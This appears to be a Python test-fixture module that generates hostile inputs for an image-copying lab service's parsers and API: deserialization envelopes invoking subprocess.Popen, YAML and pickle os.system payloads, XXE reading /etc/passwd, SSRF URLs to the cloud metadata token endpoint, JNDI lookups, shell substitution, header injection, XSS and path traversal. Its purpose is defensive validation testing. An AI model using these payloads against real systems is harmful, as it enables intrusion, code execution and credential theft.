"""Named nasty things: texts, and the files, manifests and bodies that are made of them."""

import codecs
import json
from typing import Any

ELSEWHERE = "http://127.0.0.1:9"
SUBSCRIPTION = "aaaa0000-0000-0000-0000-000000000001"

ENVELOPE = {"__class__": "Popen", "__module__": "subprocess", "__data__": {"args": ["touch", "hostile"]}}
"""What the durable codec makes an object of when it is not strict (`durable-facts.md` section 2)."""

TEXTS: dict[str, str] = {
    "codec envelope": json.dumps(ENVELOPE),
    "metadata service": "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com",
    "canary": ELSEWHERE + "/latest",
    "canary behind a user": "http://management.azure.com@127.0.0.1:9/",
    "address as a number": "http://2130706433:9/",
    "address of version six": "http://[::1]:9/",
    "file": "file:///etc/passwd",
    "address without scheme": "//evil.example/image.vhd",
    "share": "\\\\evil.example\\share\\image.json",
    "other schemes": "gopher://evil.example/_x jar:http://evil.example!/ data:,x",
    "host in front": "stlaba.evil.example",
    "account with a path": "stlaba/../stother",
    "upwards": "../../runs/x/report.json",
    "upwards with backslashes": "Win\\..\\..\\runs",
    "upwards, encoded": "%2e%2e%2f%2e%2e%2fruns",
    "upwards, encoded twice": "%252e%252e%252fruns",
    "upwards from the root": "GoldenImages/../../labs.json",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\System32",
    "device": "CON",
    "stream": "image.json::$DATA",
    "dots": "...",
    "spaces": "   ",
    "trailing dot and space": "Win. ",
    "only the extension": ".json",
    "query": "Win?comp=list&restype=container",
    "fragment": "Win#/Labs/0",
    "parameters": "Win;restype=container",
    "bidirectional": "Win\u202egnp.exe",
    "zero width": "Win\u200b\u200d\ufeff2022",
    "soft hyphen": "Win\u00ad2022",
    "fullwidth slash": "Win\uff0fServer",
    "fraction slash": "Win\u2044Server",
    "other dots": "\u2025/\u2024\u2024/runs",
    "decomposed": "U\u0308ml/B.json",
    "dotless and dotted": "W\u0130N/w\u0131n",
    "sharp s": "Stra\u00dfe",
    "long s and kelvin": "\u017fERVER/\u212aelvin",
    "ligature": "\ufb01le",
    "a tower of marks": "a" + "\u0301" * 500,
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "no character": "\uffff\U0010ffff",
    "private use": "\ue000\U000f0000",
    "lone surrogate": "Win\ud83d",
    "surrogates in disorder": "\udc00\ud800",
    "nul": "Win\0.json",
    "controls": "Win\x01\x1b[2J\x7f",
    "lines": "Win\r\nx-ms-meta-owner: me",
    "other lines": "Win\u2028next\u2029\x85",
    "header": "a\r\n\r\nHTTP/1.1 200 OK",
    "html": "<script>alert(1)</script>",
    "markdown": "[x](javascript:alert(1)) | `y` | ![z](http://127.0.0.1:9/z.png)",
    "pipe command": "##vso[task.setvariable variable=x]y",
    "formula": "=HYPERLINK(\"http://127.0.0.1:9\")",
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;]]></x>',
    "format": "{0.__class__.__init__.__globals__} %s%n${7*7}{{7*7}}",
    "lookup": "${jndi:ldap://127.0.0.1:9/a}",
    "shell": "$(touch hostile); `touch hostile` | touch hostile",
    "sql and odata": "' or name ne '' --",
    "key of a prototype": "__proto__",
    "number": "1e999",
    "no number": "NaN",
    "long": "a" * 100_000,
    "long path": "a/" * 20_000 + "b",
    "signature": "https://stfactory.blob.core.windows.net/c/b?sig=c2VjcmV0LXNlY3JldA%3D%3D&se=2027",
    "key": "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=c2VjcmV0LXNlY3JldA==;",
    "token": "Bearer eyJhbGciOiJub25lIn0.eyJhdWQiOiJzZWNyZXQifQ.c2VjcmV0",
}  # fmt: skip

SECRETS = ("c2VjcmV0",)
"""Parts of the secrets above: none of them may be told again."""


def lab(**members: Any) -> dict[str, Any]:
    return {"SubscriptionId": SUBSCRIPTION, "LabName": "lab-a", "ImagePaths": ["Win"]} | members


def _labs(*labs: Any, **members: Any) -> bytes:
    return json.dumps({"Labs": list(labs)} | members).encode()


def labs_files() -> dict[str, bytes]:
    """Files that must serve no lab, or none beyond `lab-a` with the images below `Win`."""
    good = json.dumps({"Labs": [lab()]})
    files = {
        "codec envelope as the file": json.dumps(ENVELOPE).encode(),
        "codec envelope around the labs": json.dumps(ENVELOPE | {"Labs": [lab()]}).encode(),
        "codec envelope as a lab": _labs(ENVELOPE),
        "codec envelope in a lab": _labs(lab() | ENVELOPE),
        "codec envelope as an entry": _labs(lab(ImagePaths=[ENVELOPE])),
        "codec envelope as a group": _labs(lab(ResourceGroup=ENVELOPE)),
        "schema elsewhere": _labs(lab(), **{"$schema": ELSEWHERE + "/schema.json"}),
        "schema in a lab": _labs(
            lab(**{"$schema": ELSEWHERE, "$ref": ELSEWHERE, "$id": ELSEWHERE, "include": ELSEWHERE})
        ),
        "keys in two cases": b'{"Labs": [], "LABS": [' + json.dumps(lab()).encode() + b"]}",
        "keys that are alike to a reader": json.dumps({"Labs": [lab()], "L\u0430bs": [lab(LabName="lab-b")]}).encode(),
        "lists in lists": _labs([[lab()]], [[[]]]),
        "deep list": b"[" * 100_000,
        "deep object": b'{"Labs":' * 50_000,
        "deep and closed": b'{"Labs": ' + b"[" * 5000 + b"]" * 5000 + b"}",
        "deep value that is ignored": b'{"x": ' + b"[" * 2000 + b"]" * 2000 + b', "Labs": []}',
        "huge number": b'{"Labs": [' + b"9" * 500_000 + b"]}",
        "huge exponent": b'{"Labs": 1e999999999999}',
        "numbers as names": _labs(lab(LabName=1, SubscriptionId=2.5e300, ResourceGroup=-0.0)),
        "no numbers": b'{"Labs": [NaN, Infinity, -Infinity]}',
        "true and null": _labs(True, None, False, lab(ImagePaths=True), lab(ImagePaths=[None, True, 0, {}, []])),
        "nul between": good.encode().replace(b"lab-a", b"lab\0a"),
        "nul escaped": good.encode().replace(b"lab-a", b"lab\\u0000a"),
        "nul behind": good.encode() + b"\0" * 100,
        "surrogates escaped": good.encode().replace(b"lab-a", b"lab\\ud800a"),
        "surrogates as bytes": good.encode().replace(b"lab-a", b"lab\xed\xa0\x80a"),
        "overlong slash": good.encode().replace(b"lab-a", b"lab\xc0\xafa"),
        "two marks": codecs.BOM_UTF8 * 2 + good.encode(),
        "mark in the middle": good.encode().replace(b"lab-a", b"lab\xef\xbb\xbfa"),
        "wrong mark": codecs.BOM_UTF16_LE + good.encode(),
        "half a character": codecs.BOM_UTF16_LE + good.encode("utf-16-le")[:-1],
        "thirty-two bits": good.encode("utf-32"),
        "two documents": good.encode() * 2,
        "comments": b"/* */" + good.encode() + b"// end",
        "single quotes": good.replace('"', "'").encode(),
        "compressed": bytes.fromhex("1f8b0800000000000003") + b"\0" * 5000,
        "yaml": b"!!python/object/apply:os.system ['touch hostile']",
        "pickle": b"cos\nsystem\n(S'touch hostile'\ntR.",
        "xml": TEXTS["xml"].encode(),
        "archive": b"PK\x03\x04" + b"\0" * 100,
        "many labs of one name": _labs(*[lab()] * 3000),
        "many keys": json.dumps({f"k{number}": number for number in range(20_000)}).encode(),
        "one key many times": b"{" + b",".join([b'"Labs": []'] * 20_000) + b"}",
        "many entries": _labs(lab(ImagePaths=["../x"] * 20_000)),
        "too large": good.encode() + b" " * (1024 * 1024),
        "empty": b"",
        "spaces": b" \n" * 1000,
    }
    files |= {f"a name: {name}": _labs(lab(LabName=text)) for name, text in TEXTS.items()}
    files |= {f"a subscription: {name}": _labs(lab(SubscriptionId=text)) for name, text in TEXTS.items()}
    files |= {f"a group: {name}": _labs(lab(ResourceGroup=text)) for name, text in TEXTS.items()}
    files |= {f"an entry: {name}": _labs(lab(ImagePaths=[text])) for name, text in TEXTS.items()}
    return files | {f"a key: {name}": _labs(lab(**{text: text})) for name, text in TEXTS.items()}


def manifest(**members: Any) -> dict[str, Any]:
    """A manifest of the original factory, whose VHD is there."""
    return {
        "imageName": "Win_Server-Nov-1-2026",
        "imagePath": "Win\\Server.json",
        "description": "by the original",
        "osType": "Windows",
        "vhdFileName": "golden.vhd",
        "timestamp": "11/1/2026 1:02:03 PM",
    } | members


KEYS = tuple(manifest())
OUR_KEYS = ("osState", "digest", "captureKeys", "sizeBytes", "runId", "factoryId", "diskId")


def manifests() -> dict[str, bytes]:
    good = json.dumps(manifest())
    files = {
        "codec envelope": json.dumps(ENVELOPE | manifest()).encode(),
        "codec envelope as the name": json.dumps(manifest(imageName=ENVELOPE)).encode(),
        "codec envelope as the captures": json.dumps(manifest(captureKeys=[ENVELOPE])).encode(),
        "key twice": good.encode().replace(b'"osType"', b'"IMAGENAME": "x", "osType"'),
        "deep": b"[" * 100_000,
        "deep and closed": b'{"x": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
        "deep beside the keys": good.encode()[:-1] + b', "x": ' + b"[" * 400 + b"]" * 400 + b"}",
        "huge number": good.encode()[:-1] + b', "sizeBytes": ' + b"9" * 100_000 + b"}",
        "no numbers": good.encode()[:-1] + b', "sizeBytes": NaN, "x": -Infinity, "y": 1e999}',
        "list": b"[" + good.encode() + b"]",
        "scalar": b"1",
        "nothing": b"",
        "nul": good.encode() + b"\0",
        "surrogate as bytes": good.encode().replace(b"Server", b"\xed\xa0\x80"),
        "two marks": codecs.BOM_UTF8 * 2 + good.encode(),
        "half a character": codecs.BOM_UTF16_LE + good.encode("utf-16-le")[:-1],
        "large": json.dumps(manifest(description="d" * 900_000)).encode(),
        "many captures": json.dumps(manifest(captureKeys=["a"] * 50_000)).encode(),
    }
    for key in (*KEYS, *OUR_KEYS):
        files |= {f"{key}: {name}": json.dumps(manifest(**{key: text})).encode() for name, text in TEXTS.items()}
        for name, value in {
            "null": None,
            "list": [[]],
            "object": {"a": ENVELOPE},
            "true": True,
            "number": 1e300,
        }.items():
            files[f"{key}: {name}"] = json.dumps(manifest(**{key: value})).encode()
    return files


def bodies() -> dict[str, bytes]:
    """Bodies of POST /api/runs that must start nothing."""
    files = {
        "codec envelope": json.dumps(ENVELOPE).encode(),
        "codec envelope as the number": json.dumps({"maxConcurrentCopies": ENVELOPE}).encode(),
        "number twice": b'{"maxConcurrentCopies": 1, "maxConcurrentCopies": 100}',
        "huge number": b'{"maxConcurrentCopies": ' + b"9" * 9000 + b"}",
        "almost a number": b'{"maxConcurrentCopies": 1.5}',
        "exponent": b'{"maxConcurrentCopies": 1e9}',
        "true": b'{"maxConcurrentCopies": true}',
        "text": b'{"maxConcurrentCopies": "20"}',
        "null": b'{"maxConcurrentCopies": null}',
        "deep": b"[" * 9000,
        "nul": b"\0",
        "surrogate": b'{"\\ud800": 1}',
        "not utf-8": b'{"maxConcurrentCopies": 1, "\xff": 1}',
        "large": b" " * 2_000_000 + b'{"maxConcurrentCopies": 1}',
        "own run": b'{"runId": "29991231T235959Z-aaaa", "maxConcurrentCopies": 1}',
        "configuration": json.dumps({"configuration": ELSEWHERE}).encode(),
    }
    return files | {f"a key: {name}": json.dumps({text: text}).encode() for name, text in TEXTS.items()}
